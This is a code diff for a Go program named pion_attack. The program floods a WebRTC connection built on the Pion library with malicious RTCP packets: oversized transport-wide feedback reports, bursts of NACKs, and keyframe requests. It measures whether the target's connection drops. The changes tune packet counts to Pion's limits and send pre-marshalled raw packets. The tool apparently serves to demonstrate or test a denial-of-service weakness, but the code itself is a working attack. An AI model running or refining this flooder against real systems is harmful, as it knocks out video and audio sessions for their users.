@@ -3,7 +3,7 @@
 // datagrams it has sent, and after how many seconds its connection ended, null if it did not.
 //
 // feedback: 48 reports of transport-wide feedback, each of the newest 8,191 packets, of which none has arrived.
-// nack: 5,100 packets, of the newest ones that came.
+// nack: 4,301 packets, the newest ones that came.
 // fir: 148 requests for a keyframe.
 //
 // Usage: pion_attack feedback|nack|fir URL TOKEN SECONDS [ADDRESS]: the address is the one that all comes from.
@@ -33,8 +33,9 @@ const (
 	datagramsPerSecond = 698
 	reports            = 48
 	statuses           = 8191
-	pairs              = 300
-	requests           = 148
+	// More Pion does not put into a packet.
+	pairs    = 253
+	requests = 148
 )
 
 type outcome struct {
@@ -125,7 +126,7 @@ func run(attack func(*target) rtcp.Packet, url, token string, length time.Durati
 	}
 	fmt.Println("ready")
 	bufio.NewReader(os.Stdin).ReadString('\n')
-	return victim.flood(attack, connection, length, ended), nil
+	return victim.flood(attack, connection, length, ended)
 }
 
 // numberPackets makes known what a sender needs to number all its packets: the header extension, and a stream of its own for those that
@@ -152,24 +153,29 @@ func signal(channel chan struct{}) {
 }
 
 func (t *target) flood(attack func(*target) rtcp.Packet, connection *webrtc.PeerConnection, length time.Duration,
-	ended chan struct{}) outcome {
+	ended chan struct{}) (outcome, error) {
 	result, began, tick := outcome{}, time.Now(), time.NewTicker(time.Millisecond)
 	defer tick.Stop()
 	for elapsed := time.Duration(0); elapsed < length; elapsed = time.Since(began) {
 		seconds := elapsed.Seconds()
 		select {
 		case <-ended:
-			return outcome{result.Sent, &seconds}
+			return outcome{result.Sent, &seconds}, nil
 		case <-tick.C:
 		}
 		for due := int(seconds * datagramsPerSecond); result.Sent < due; result.Sent++ {
-			if err := connection.WriteRTCP([]rtcp.Packet{attack(t)}); err != nil {
-				return outcome{result.Sent, &seconds}
+			datagram, err := attack(t).Marshal()
+			if err != nil {
+				return outcome{}, err
+			}
+			raw := rtcp.RawPacket(datagram)
+			if err := connection.WriteRTCP([]rtcp.Packet{&raw}); err != nil {
+				return outcome{result.Sent, &seconds}, nil
 			}
 			t.count++
 		}
 	}
-	return result
+	return result, nil
 }
 
 func (t *target) see(packet *rtp.Packet, receiver *webrtc.RTPReceiver) {
